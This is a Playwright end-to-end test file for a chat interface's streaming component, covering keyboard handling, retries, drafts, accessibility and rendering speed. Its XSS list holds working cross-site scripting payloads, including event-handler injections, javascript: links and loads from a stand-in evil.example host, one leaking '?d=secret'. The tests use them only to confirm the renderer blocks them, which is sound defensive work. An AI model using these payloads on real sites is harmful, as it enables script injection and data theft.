"""The live component in a real browser, fed by a stub of its routes."""

import socket
import threading
from collections.abc import Iterator
from contextlib import closing
from io import BytesIO
from pathlib import Path
from typing import Any

import pytest
import uvicorn
from PIL import Image
from playwright.sync_api import Locator, Page, expect

from tests.e2e.live_stub import METRICS, LiveStub, Step

AXE = Path(__file__).with_name("vendor") / "axe.min.js"
XSS = [
    "<img src=x onerror=alert(1)>",
    "<script>window.owned = 1</script>",
    "<script>\nwindow.owned = 1\n</script>",
    "<svg/onload=alert(1)>",
    "<iframe src='http://evil.example/'></iframe>",
    "<form action='http://evil.example/'><button>go</button></form>",
    "<style>* { background: url(http://evil.example/s) }</style>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:x) [y](file:///etc/passwd)",
    "![x](http://evil.example/i.png?d=secret)",
    "![x](//evil.example/i.png)",
    "![x](v.mp4) ![y](javascript:alert(1))",
    '![x](http://evil.example/" onerror="alert(1))',
    "![x][r]\n\n[r]: http://evil.example/ref.png",
    "[![x](http://evil.example/in.png)](http://evil.example/out)",
    '[x](http://evil.example/ "t\\" onmouseover=alert(1)")',
    "```html\n<img src=x onerror=alert(1)>\n```",
    '```x" onclick="alert(1)\ncode\n```',
    "```mermaid\nflowchart LR\nA@{ img: 'http://evil.example/m.png' }\n```",
    "| <img src=x onerror=alert(1)> |\n|---|\n| <b onclick=alert(1)>y</b> |",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "- [x] <input autofocus onfocus=alert(1)>",
    "`<img src=x onerror=alert(1)>` &lt;img src=x onerror=alert(1)&gt;",
    "# <div id=host class=message onclick=alert(1)>x</div>",
]


@pytest.fixture
def stub() -> LiveStub:
    return LiveStub()


@pytest.fixture
def url(stub: LiveStub) -> Iterator[str]:
    """The stub, served for one test."""
    with closing(socket.create_server(("127.0.0.1", 0))) as listener:
        config = uvicorn.Config(stub.app(), ws="none", lifespan="off", log_level="error")
        server = uvicorn.Server(config)
        thread = threading.Thread(target=server.run, args=([listener],))
        thread.start()
        yield f"http://127.0.0.1:{listener.getsockname()[1]}/"
        server.force_exit = server.should_exit = True
        thread.join()


def texts(*pieces: str, every: float = 0.0) -> list[Step]:
    return [(every, {"t": "text", "s": piece}) for piece in pieces]


def composer(page: Page) -> Locator:
    return page.get_by_role("textbox", name="Message", exact=True)


def ask(page: Page, text: str) -> Locator:
    """Send *text*; returns the last message, which is its reply."""
    composer(page).fill(text)
    composer(page).press("Enter")
    return page.locator("article").last


def wait_for_end(page: Page) -> None:
    expect(page.get_by_role("button", name="Send", exact=True)).to_be_visible()
    expect(page.get_by_role("log")).to_contain_text("Reply complete")


def axe_violations(page: Page) -> list[str]:
    page.evaluate(AXE.read_text())
    found = page.evaluate("axe.run()")
    return [f"{one['id']}: {one['nodes'][0]['html'][:200]}" for one in found["violations"]]


def test_streams_a_reply_and_shows_its_metrics(page: Page, url: str, stub: LiveStub) -> None:
    stub.script["hi"] = texts("Hello ", "**there**", every=0.05)
    page.goto(url)

    reply = ask(page, "hi")

    expect(reply.locator("strong")).to_have_text("there")
    expect(reply.get_by_role("list", name="Metrics of this reply")).to_contain_text("143 out")
    assert ["ended", "r0"] in page.evaluate("window.triggers")


@pytest.mark.parametrize("streamed", [True, False], ids=["streamed", "from history"])
def test_runs_and_fetches_nothing_that_a_model_writes(
    page: Page, url: str, stub: LiveStub, streamed: bool
) -> None:
    seen: list[str] = []
    page.on("request", lambda request: seen.append(request.url))
    page.on("dialog", lambda dialog: seen.append(f"dialog {dialog.message}"))
    text = "\n\n".join(XSS)
    if streamed:
        stub.script["x"] = texts(*(text[at : at + 7] for at in range(0, len(text), 7)))
    else:
        stub.messages = [stub.message("assistant", text)]
    page.goto(url)
    if streamed:
        ask(page, "x")
        wait_for_end(page)

    body = page.locator("article .body").last
    expect(body.locator(".picture").first).to_be_visible()

    assert [address for address in seen if not address.startswith(url)] == []
    assert page.evaluate("window.owned") is None
    assert body.locator("img, script, iframe, form, style, svg:not(.icon svg), input, math").count() == 0
    assert body.evaluate(UNSAFE_ATTRIBUTES) == []


UNSAFE_ATTRIBUTES = """body => [...body.querySelectorAll("*")].flatMap(node => [...node.attributes]
  .filter(({ name, value }) => /^(on.*|id|style|src)$/.test(name)
    || (name === "href" && !/^(https?:\\/\\/|mailto:)/.test(value)))
  .map(({ name, value }) => `${node.tagName} ${name}=${value}`))"""


def test_opens_links_elsewhere_and_says_where_they_go(page: Page, url: str, stub: LiveStub) -> None:
    stub.messages = [stub.message("assistant", "[safe](https://example.com/a?b) and https://example.org")]
    page.goto(url)

    link = page.get_by_role("link", name="safe")

    expect(link).to_have_attribute("title", "https://example.com/a?b")
    expect(link).to_have_attribute("target", "_blank")
    expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")


@pytest.mark.parametrize("event", [{"isComposing": True}, {"keyCode": 229}], ids=["composing", "key 229"])
def test_leaves_the_enter_of_an_input_method_alone(
    page: Page, url: str, stub: LiveStub, event: dict[str, Any]
) -> None:
    page.goto(url)
    composer(page).fill("안녕")

    composer(page).dispatch_event("keydown", {"key": "Enter", "bubbles": True, "cancelable": True, **event})

    expect(composer(page)).to_have_value("안녕")
    assert stub.sends == []


def test_breaks_the_line_on_shift_enter(page: Page, url: str, stub: LiveStub) -> None:
    page.goto(url)
    composer(page).fill("one")
    composer(page).press("Shift+Enter")

    expect(composer(page)).to_have_value("one\n")
    assert stub.sends == []


def test_sends_once_however_often_enter_is_pressed(page: Page, url: str, stub: LiveStub) -> None:
    stub.script["once"] = texts("slow", every=0.3)
    page.goto(url)
    composer(page).fill("once")

    composer(page).evaluate(
        """area => { for (let i = 0; i < 3; i += 1)
        area.dispatchEvent(new KeyboardEvent("keydown", { key: "Enter", bubbles: true })); }"""
    )
    wait_for_end(page)

    assert len(stub.sends) == 1


def test_shows_the_question_in_the_frame_of_the_enter(page: Page, url: str, stub: LiveStub) -> None:
    stub.messages = [stub.message(role, "text") for role in ["user", "assistant"] * 100]
    page.goto(url)
    expect(page.locator("article")).to_have_count(200)
    composer(page).fill("now")

    shown = composer(page).evaluate(
        """area => { area.dispatchEvent(new KeyboardEvent("keydown", { key: "Enter", bubbles: true }));
        const questions = area.getRootNode().querySelectorAll("article[data-role=user] .body");
        return [...questions].at(-1).textContent; }"""
    )

    assert shown == "now"


def test_keeps_finished_blocks_while_the_rest_arrives(page: Page, url: str, stub: LiveStub) -> None:
    stub.script["long"] = texts(
        "# Title\n\n", "First.\n\n", *["Second grows. "] * 30, "\n\n", "Third.", every=0.02
    )
    page.goto(url)
    reply = ask(page, "long")
    expect(reply.locator("p", has_text="Second").first).to_be_visible()
    reply.evaluate(
        "node => { window.first = node.querySelector('p'); window.title = node.querySelector('h1'); }"
    )

    wait_for_end(page)

    expect(reply.locator(".body p").last).to_have_text("Third.")
    assert reply.evaluate(
        "n => n.querySelector('p') === window.first && n.querySelector('h1') === window.title"
    )


def test_goes_on_where_the_connection_dropped(page: Page, url: str, stub: LiveStub) -> None:
    stub.script["drop"] = texts(*[f"w{number} " for number in range(40)], every=0.01)
    stub.drop_after = 5
    page.goto(url)

    reply = ask(page, "drop")
    wait_for_end(page)

    expect(reply.locator(".body")).to_have_text(" ".join(f"w{number}" for number in range(40)))
    assert len(stub.sends) == 1


def test_joins_a_running_reply_after_a_reload(page: Page, url: str, stub: LiveStub) -> None:
    stub.script["go on"] = texts(*["tick "] * 60, every=0.02)
    page.goto(url)
    reply = ask(page, "go on")
    expect(reply.locator(".body")).to_contain_text("tick")

    page.reload()
    wait_for_end(page)

    expect(page.locator("article").last.locator(".body")).to_have_text(" ".join(["tick"] * 60))


def test_stops_on_escape_and_keeps_the_text(page: Page, url: str, stub: LiveStub) -> None:
    stub.script["stop me"] = texts(*["word "] * 500, every=0.02)
    stub.final["stop me"] = {"note": "Stopped by you."}
    page.goto(url)
    reply = ask(page, "stop me")
    expect(reply.locator(".body")).to_contain_text("word")

    composer(page).press("Escape")

    expect(reply.locator(".note")).to_have_text("Stopped by you.")
    expect(reply.locator(".body")).to_contain_text("word")
    assert len(reply.locator(".body").inner_text().split()) < 400


def test_gives_the_question_back_when_it_could_not_be_sent(page: Page, url: str, stub: LiveStub) -> None:
    stub.refuse = True
    page.goto(url)

    ask(page, "precious words")

    expect(page.get_by_role("alert")).to_contain_text("No connection is chosen. Choose one in Settings.")
    expect(composer(page)).to_have_value("precious words")
    expect(page.locator("article")).to_have_count(0)


def test_offers_a_retry_when_the_wait_is_over(page: Page, url: str, stub: LiveStub) -> None:
    error = {"title": "Too many requests", "hint": "Wait.", "detail": "", "code": "rate", "status": 429}
    stub.script["fail"] = texts("")
    stub.final["fail"] = {"error": error | {"request_id": "req_1", "retryable": True, "retry_after": 1.5}}
    page.goto(url)
    ask(page, "fail")
    expect(page.get_by_role("group", name="Too many requests")).to_contain_text("request req_1")

    page.get_by_role("button", name="Retry", exact=True).click()
    expect(page.locator("article .body").last).to_contain_text("You said")

    assert [body["action"] for body in stub.sends] == ["send", "regenerate"]


def test_counts_down_to_the_next_attempt(page: Page, url: str, stub: LiveStub) -> None:
    retry = {"t": "retry", "attempt": 2, "of": 3, "wait": 2, "reason": "rate limit", "retry_after": True}
    stub.script["again"] = [(0.0, retry), (1.0, {"t": "text", "s": "ok"})]
    page.goto(url)

    reply = ask(page, "again")

    expect(reply.locator(".status")).to_contain_text("(rate limit, the server asked for it)")
    expect(reply.locator(".status")).to_contain_text("Attempt 2 of 3 in 1.")
    expect(reply.locator(".body")).to_have_text("ok")


def test_folds_the_reasoning_away(page: Page, url: str, stub: LiveStub) -> None:
    stub.script["why"] = [(0.0, {"t": "think", "s": "Because <b>."}), (0.1, {"t": "text", "s": "So."})]
    page.goto(url)

    reply = ask(page, "why")

    expect(reply.locator("summary")).to_contain_text("Thought for")
    expect(reply.locator(".thoughts")).to_be_hidden()
    expect(reply.locator(".thoughts")).to_have_text("Because <b>.")


def test_brings_a_deleted_message_back(page: Page, url: str, stub: LiveStub) -> None:
    stub.messages = [stub.message("user", "one"), stub.message("assistant", "two")]
    page.goto(url)
    page.locator("article", has_text="two").get_by_role("button", name="Delete").click()
    expect(page.locator("article")).to_have_count(1)

    page.get_by_role("button", name="Undo").press("Enter")

    expect(page.locator("article").last).to_contain_text("two")
    expect(page.locator("article").last).to_be_focused()


def test_resends_an_edited_question(page: Page, url: str, stub: LiveStub) -> None:
    stub.messages = [stub.message("user", "old"), stub.message("assistant", "answer")]
    page.goto(url)
    page.get_by_role("button", name="Edit and resend").click()

    page.get_by_role("textbox", name="Edit message").fill("new")
    page.get_by_role("button", name="Save and send").click()
    wait_for_end(page)

    expect(page.locator("article .body")).to_have_text(["new", "You said: new"])
    assert (stub.sends[0]["action"], stub.sends[0]["message"]) == ("edit", "m0")


def test_brings_the_old_reply_back_when_no_new_one_can_start(page: Page, url: str, stub: LiveStub) -> None:
    stub.messages = [stub.message("user", "ask"), stub.message("assistant", "old answer")]
    stub.refuse = True
    page.goto(url)

    page.get_by_role("button", name="Regenerate").click()

    expect(page.get_by_role("alert")).to_contain_text("No connection is chosen.")
    expect(page.locator("article .body")).to_have_text(["ask", "old answer"])


def test_keeps_plain_typing_from_the_shortcuts_of_the_page(page: Page, url: str) -> None:
    page.goto(url)
    page.evaluate("() => { window.keys = []; document.onkeydown = (event) => window.keys.push(event.key); }")

    composer(page).press_sequentially("rc")

    expect(composer(page)).to_have_value("rc")
    assert page.evaluate("window.keys") == []


def test_shows_the_raw_text_on_request(page: Page, url: str, stub: LiveStub) -> None:
    stub.messages = [stub.message("assistant", "**bold**")]
    page.goto(url)
    expect(page.locator("article strong")).to_have_text("bold")

    page.get_by_role("button", name="Show the raw text").click()

    expect(page.locator("article .body")).to_have_text("**bold**")


def test_sends_a_starter_at_one_click(page: Page, url: str, stub: LiveStub) -> None:
    page.goto(url)

    page.get_by_role("button", name="Explain a concept").click()
    wait_for_end(page)

    assert stub.sends[0]["text"].startswith("Explain streaming")


def test_survives_a_rerun_with_draft_focus_and_stream(page: Page, url: str, stub: LiveStub) -> None:
    stub.script["run"] = texts(*["tick "] * 50, every=0.02)
    page.goto(url)
    reply = ask(page, "run")
    composer(page).type("half a thought")

    page.evaluate("void window.mountWith({ ...window.liveData, version: 2, streaming: false })")
    wait_for_end(page)

    expect(composer(page)).to_have_value("half a thought")
    expect(composer(page)).to_be_focused()
    expect(reply.locator(".body")).to_have_text(" ".join(["tick"] * 50))


def test_keeps_the_draft_through_a_reload(page: Page, url: str) -> None:
    page.goto(url)
    composer(page).fill("unsent")

    page.reload()

    expect(composer(page)).to_have_value("unsent")


def test_prefills_a_draft_once_and_never_sends_it(page: Page, url: str, stub: LiveStub) -> None:
    stub.data["draft"] = {"id": "d1", "text": "from a link"}
    page.goto(url)
    expect(composer(page)).to_have_value("from a link")
    composer(page).fill("mine")

    page.evaluate("void window.mountWith({ ...window.liveData })")

    expect(composer(page)).to_have_value("mine")
    assert stub.sends == []


def test_lets_nobody_type_where_the_page_is_read_only(page: Page, url: str, stub: LiveStub) -> None:
    stub.data |= {"readonly": True, "placeholder": "Recordings cannot be changed."}
    stub.messages = [stub.message("assistant", "text")]
    page.goto(url)

    expect(composer(page)).to_be_disabled()
    expect(composer(page)).to_have_attribute("placeholder", "Recordings cannot be changed.")
    expect(page.get_by_role("button", name="Delete")).to_have_count(0)


def test_sends_an_attached_image(page: Page, url: str, stub: LiveStub) -> None:
    dot = BytesIO()
    Image.new("RGB", (1, 1)).save(dot, "PNG")
    page.goto(url)
    page.locator("input[type=file]").set_input_files(
        {"name": "dot.png", "mimeType": "image/png", "buffer": dot.getvalue()}
    )
    expect(page.get_by_role("img", name="dot.png")).to_be_visible()

    ask(page, "what is this?")
    wait_for_end(page)

    assert [(one["name"], one["type"]) for one in stub.sends[0]["images"]] == [("dot.png", "image/png")]


def test_says_why_a_file_is_no_image(page: Page, url: str) -> None:
    page.goto(url)

    page.locator("input[type=file]").set_input_files(
        {"name": "a.png", "mimeType": "image/png", "buffer": b"no"}
    )

    expect(page.get_by_role("alert")).to_have_text("a.png is not a PNG, JPEG, WebP or GIF image.")


def test_follows_one_job_with_neither_transcript_nor_composer(page: Page, url: str, stub: LiveStub) -> None:
    stub.script["job"] = texts("The **job** text.")
    page.goto(url)
    ask(page, "job")
    wait_for_end(page)

    page.evaluate("void window.liveCleanup()")
    expect(page.locator("article")).to_have_count(0)
    page.evaluate("void window.mountWith({ ...window.liveData, mode: 'job', run: 'r0' })")

    expect(page.locator("article strong")).to_have_text("job")
    expect(composer(page)).to_have_count(0)


MEASURE_GAPS = """() => { let last = performance.now();
  const step = (now) => {
    window.gap = Math.max(window.gap, now - last); last = now; requestAnimationFrame(step); };
  requestAnimationFrame((now) => { last = now; step(now); }); }"""
IS_WHOLE = """number => window.triggers.length > number && [...document.getElementById("host").shadowRoot
  .querySelectorAll("article .body")].at(-1).textContent.trimEnd().endsWith("LAST")"""
SHAPES = {
    "paragraph": "word **bold** and `code` ",
    "blocks": "## Head\n\nA line with **bold** text.\n\n- one\n- two\n\n",
    "list": "- item with **bold** text\n",
    "code": "    value = compute(value)\n",
}


@pytest.mark.parametrize("shape", SHAPES)
def test_takes_a_burst_of_8000_tokens_whole_and_stays_smooth(
    page: Page, url: str, stub: LiveStub, shape: str
) -> None:
    words = [f" {word}" for word in (SHAPES[shape] * 3000).split(" ")][:8000]
    start = ["```python\n"] if shape == "code" else []
    stub.script["burst"] = texts(*start, *words, "\n\n" * (shape != "code"), "LAST")
    page.goto(url)
    page.evaluate(MEASURE_GAPS)

    gaps = [longest_gap_of(page, number) for number in range(3)]

    # Other work on the machine only ever lengthens a gap, so the best try is the one to judge.
    assert min(gaps) < 250


def longest_gap_of(page: Page, number: int) -> float:
    """Ask for the burst once, all of it, and return the longest time between two frames in ms."""
    page.evaluate("window.gap = 0")
    ask(page, "burst")
    page.wait_for_function(IS_WHOLE, arg=number)
    return float(page.evaluate("window.gap"))


@pytest.mark.parametrize("theme", ["light", "dark"])
@pytest.mark.parametrize("width", [1100, 320])
def test_has_no_accessibility_faults(page: Page, url: str, stub: LiveStub, theme: str, width: int) -> None:
    error = {"title": "Failed", "hint": "h", "detail": "d", "code": "c", "status": 500, "request_id": "r"}
    run: dict[str, Any] = {
        "id": "x",
        "state": "failed",
        "reasoning": "hm",
        "metrics": METRICS,
        "note": "Stopped.",
    }
    run |= {"error": error | {"retryable": True, "retry_after": None}, "can_continue": True}
    text = "# H\n\n> q\n\n[l](https://a.b) ![i](https://c.d)\n\n| a |\n|-|\n| b |\n\n"
    text += "```python\nx = 'a'  # c\n```\n"
    reply = stub.message("assistant", text, run=run, pinned=True)
    stub.messages = [stub.message("user", "q", dropped=True), reply | {"siblings": ["other", reply["id"]]}]
    page.set_viewport_size({"width": width, "height": 800})
    page.goto(f"{url}?theme={theme}")
    expect(page.locator(".hljs-string")).to_be_visible()

    assert axe_violations(page) == []
    assert page.evaluate("document.documentElement.scrollWidth") == width


@pytest.mark.parametrize("theme", ["light", "dark"])
def test_has_no_accessibility_faults_when_empty(page: Page, url: str, theme: str) -> None:
    page.goto(f"{url}?theme={theme}")
    expect(page.get_by_role("button", name="Compare")).to_be_visible()

    assert axe_violations(page) == []
